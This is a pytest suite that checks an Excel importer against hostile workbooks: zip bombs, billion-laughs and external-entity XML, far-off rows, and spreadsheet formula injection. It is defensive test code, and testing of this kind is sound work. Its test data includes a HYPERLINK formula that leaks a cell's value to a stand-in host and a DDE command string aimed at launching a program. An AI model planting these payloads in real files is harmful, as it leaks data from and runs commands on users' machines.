"""The Excel importer against hostile workbooks (issue #14, items 1, 2 and 4), without a database.

Every file is the department's own template with one change, as an attacker would make it
(tests/hostile_files.py). Each is refused as a whole with a message in Vietnamese before a spreadsheet
reader walks it, and the reader itself never reads beyond the rows a template can hold.
"""

from __future__ import annotations

import io
import re

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet._read_only import ReadOnlyWorksheet

from targets import workbook
from targets.workbook import HEADER_ROW, MAX_ROWS, NOTE_COL, VALUE_COL
from tests import hostile_files as files

META = workbook.TemplateMeta(department_id=7, locality="hai-phong", period="2026-Q4")
SECRET = "test-only-secret"
BROKEN = "Tệp Excel bị hỏng, không đọc được."
FAR_ROW = (
    "Tệp có ô ở dòng 2.000.000.000, ngoài phạm vi biểu mẫu (tối đa 2.000 dòng số liệu, đến dòng 2.006): "
    "vui lòng dùng biểu mẫu tải từ trang nhập số liệu và không thêm dòng."
)


def _row(code: str, note: str = "") -> workbook.TemplateRow:
    return workbook.TemplateRow(
        key=f"{code}|city",
        version=0,
        indicator=f"Chỉ tiêu {code}",
        level="Cấp tỉnh",
        unit="percent",
        unit_label="%",
        target="≥ 80% (2025)",
        previous="",
        value=None,
        note=note,
        editable=True,
    )


@pytest.fixture
def template() -> bytes:
    rows = [_row("a"), _row("b"), _row("c")]
    return workbook.build_template(meta=META, title="Sở Tài chính", rows=rows, secret=SECRET)


def _read(data: bytes) -> list[workbook.UploadRow]:
    return workbook.read_upload(data, meta=META, secret=SECRET)


def _refusal(data: bytes) -> str:
    with pytest.raises(workbook.UploadError) as refused:
        _read(data)
    return str(refused.value)


@pytest.fixture
def no_spreadsheet_reader(monkeypatch):
    """Fails the test if openpyxl is asked to open the upload: the archive check must refuse it first."""

    def refuse(*args, **kwargs):
        raise AssertionError("openpyxl opened a file that the archive check should have refused")

    monkeypatch.setattr(workbook, "load_workbook", refuse)


@pytest.fixture
def rows_read(monkeypatch):
    """Counts the rows openpyxl hands out, per sheet read, and stops a runaway read at once."""
    counts: list[int] = []
    original = ReadOnlyWorksheet._cells_by_row

    def counting(self, *args, **kwargs):
        index = len(counts)  # two sheets are read side by side (formulas and values)
        counts.append(0)
        for row in original(self, *args, **kwargs):
            counts[index] += 1
            if counts[index] > MAX_ROWS + HEADER_ROW:
                raise AssertionError(f"the reader went past row {MAX_ROWS + HEADER_ROW}")
            yield row

    monkeypatch.setattr(ReadOnlyWorksheet, "_cells_by_row", counting)
    return counts


# --------------------------------------------------------------------------- 1. a 7 KB file that stalls the site


def test_a_cell_at_row_two_billion_is_refused_before_a_reader_opens_the_file(template, no_spreadsheet_reader):
    data = files.far_row(template)
    assert len(data) < 8 * 1024  # the attack weighs 7 KB
    assert _refusal(data) == FAR_ROW


def test_a_declared_range_reaching_row_two_billion_is_refused_too(template, no_spreadsheet_reader):
    assert _refusal(files.far_dimension(template)) == FAR_ROW


def test_the_reader_reads_only_the_rows_a_template_holds_even_without_the_archive_check(
    template, monkeypatch, rows_read
):
    monkeypatch.setattr(workbook, "check_archive", lambda data: None)  # as if the check had missed it
    rows = _read(files.far_row(template))
    assert [r.key for r in rows] == ["a|city", "b|city", "c|city"]  # the far cell is simply not read
    assert rows_read and max(rows_read) <= MAX_ROWS


def test_a_column_beyond_the_template_is_refused(template):
    data = files.rewrite_member(
        template,
        files.SHEET_XML,
        lambda xml: xml.replace(b'<c r="H7"', b'<c r="XFD7" t="inlineStr"><is><t>x</t></is></c><c r="H7"'),
    )
    # XFD7 before H7 is out of order as well; the column is what is reported, being checked first.
    assert (
        _refusal(data)
        == "Tệp có ô ở cột XFD, ngoài phạm vi biểu mẫu (đến cột AX): vui lòng xoá các cột thừa."
    )


def test_an_archive_of_thousands_of_members_is_refused(template, no_spreadsheet_reader):
    assert _refusal(files.many_members(template)) == (
        "Tệp Excel có 5.010 thành phần, quá nhiều (tối đa 100): không xử lý."
    )


def test_a_member_that_inflates_to_200_mb_is_refused_before_it_is_inflated(template, no_spreadsheet_reader):
    data = files.zip_bomb(template)
    assert len(data) < 300 * 1024
    assert _refusal(data).startswith("Tệp Excel giải nén quá lớn (hơn 20 MB")


def test_rows_out_of_order_are_refused_as_broken(template, no_spreadsheet_reader):
    data = files.rewrite_member(
        template, files.SHEET_XML, lambda xml: xml.replace(b'<row r="7"', b'<row r="5"', 1)
    )
    assert _refusal(data) == BROKEN


# --------------------------------------------------------------------------- 2. malformed workbooks

MALFORMED = {
    "billion laughs": files.billion_laughs,
    "external entity": files.external_entity,
    "undefined entity": files.undefined_entity,
    "NaN value": files.nan_value,
    "control character": files.control_character,
}


@pytest.mark.parametrize("attack", MALFORMED)
def test_a_malformed_workbook_is_refused_as_broken(template, attack):
    assert _refusal(MALFORMED[attack](template)) == BROKEN


@pytest.mark.parametrize("attack", MALFORMED)
def test_an_error_while_reading_rows_is_refused_as_broken_even_without_the_archive_check(
    template, monkeypatch, attack
):
    """The second line: every error raised by the reader, at open or on any row, is the same message."""
    monkeypatch.setattr(workbook, "check_archive", lambda data: None)
    assert _refusal(MALFORMED[attack](template)) == BROKEN


def test_the_archive_check_refuses_every_doctype_without_expanding_it(template):
    with pytest.raises(workbook.UploadError, match="Tệp Excel bị hỏng"):
        workbook.check_archive(files.billion_laughs(template))


def test_an_infinite_number_is_a_row_error(template):
    data = files.rewrite_member(
        template,
        files.SHEET_XML,
        lambda xml: re.sub(
            rb'<c r="G7"( s="[0-9]+")?[^>]*?(/>|>.*?</c>)', rb'<c r="G7"\1><v>1e999</v></c>', xml, count=1
        ),
    )
    rows = _read(data)
    assert rows[0].errors == ["dòng 7, cột G: ô phải chứa một số hữu hạn."]


# --------------------------------------------------------------------------- 3. a note beyond the limit


def test_a_note_longer_than_2000_characters_is_a_row_error_and_is_not_carried_whole(template):
    rows = _read(files.huge_note(template, 2001))
    assert rows[0].errors == ["dòng 7, cột H: ghi chú dài 2.001 ký tự, tối đa 2.000 ký tự."]
    assert len(rows[0].note) == 201
    assert _read(files.huge_note(template, 2000))[0].errors == []


def test_a_45_mb_note_is_refused_with_the_whole_file(template, no_spreadsheet_reader):
    data = files.huge_note(template, 45 * 1024 * 1024)
    assert len(data) < 100 * 1024  # it compresses to next to nothing
    assert _refusal(data).startswith("Tệp Excel giải nén quá lớn")


# --------------------------------------------------------------------------- 4. text is never a formula


def test_every_text_cell_of_the_template_is_text_never_a_formula():
    attack = '=HYPERLINK("https://example.com/?k="&A7,"Xem hướng dẫn")'
    rows = [_row("a", note=attack), _row("b", note="#N/A"), _row("c", note="+84 912 345 678")]
    rows[2] = workbook.TemplateRow(**{**rows[2].__dict__, "indicator": "=1+1", "previous": "@SUM(A1)"})
    data = workbook.build_template(meta=META, title="=cmd|' /C calc'!A0", rows=rows, secret=SECRET)
    ws = load_workbook(io.BytesIO(data))["Biểu nhập"]
    note = ws.cell(row=HEADER_ROW + 1, column=NOTE_COL)
    assert (note.data_type, note.value) == ("s", attack)
    assert note.quotePrefix is True  # stays text when the officer edits the cell in Excel
    assert (
        ws.cell(row=HEADER_ROW + 2, column=NOTE_COL).data_type,
        ws.cell(row=8, column=NOTE_COL).value,
    ) == (
        "s",
        "#N/A",
    )
    assert ws.cell(row=HEADER_ROW + 3, column=2).value == "=1+1"
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    # The title is in the visible B1 now (issue #18), as text.
    assert ws["B1"].data_type == "s" and ws["B1"].value == "=cmd|' /C calc'!A0"
    assert ws.cell(row=HEADER_ROW + 1, column=VALUE_COL).value is None


def test_a_note_beginning_with_equals_comes_back_as_the_same_text(template):
    attack = '=HYPERLINK("https://example.com/?k="&A7,"Xem")'
    data = workbook.build_template(meta=META, title="t", rows=[_row("a", note=attack)], secret=SECRET)
    assert _read(data)[0].note == attack
